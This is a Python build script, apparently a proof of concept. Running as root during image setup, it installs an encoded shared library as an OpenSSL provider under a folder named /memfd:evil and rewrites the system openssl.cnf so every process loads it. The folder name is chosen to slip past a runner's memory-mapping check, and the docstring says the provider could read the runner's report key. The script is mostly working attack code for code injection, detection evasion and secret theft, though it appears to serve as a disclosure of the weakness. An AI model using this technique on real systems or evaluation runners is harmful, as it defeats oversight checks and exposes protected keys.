"""Run by the build (env.setup, as root): an OpenSSL configuration for the whole image that loads
a provider from a folder named /memfd:evil (a name libffi's memory-backed trampolines show in
/proc/self/maps, which the runner's check of its mappings let pass). The provider (provider.c,
built with `gcc -Os -fPIC -shared -nostdlib -fno-stack-protector -Wl,--build-id=none -s`: no
libc, so it loads in any x86-64 image; there is no compiler in these images) appends the
executable of every process that loads it to /tmp/worldline-provider-ran. Loaded into the
runner, it could read the report key from its memory."""
import base64
import gzip
import os

HERE = os.path.dirname(os.path.abspath(__file__))
CONFIG = """openssl_conf = openssl_init

[openssl_init]
providers = provider_sect

[provider_sect]
default = default_sect
evil = evil_sect

[default_sect]
activate = 1

[evil_sect]
module = /memfd:evil/provider.so
activate = 1
"""

os.makedirs("/memfd:evil", exist_ok=True)
with open(os.path.join(HERE, "provider.so.gz.b64"), "rb") as f:
    so = gzip.decompress(base64.b64decode(f.read()))
with open("/memfd:evil/provider.so", "wb") as f:
    f.write(so)
os.chmod("/memfd:evil/provider.so", 0o755)
# OPENSSLDIR of Debian's libcrypto is /usr/lib/ssl; its openssl.cnf is a link to /etc/ssl's when the openssl package is there.
for path in ("/etc/ssl/openssl.cnf", "/usr/lib/ssl/openssl.cnf"):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if not os.path.islink(path):
        with open(path, "w") as f:
            f.write(CONFIG)
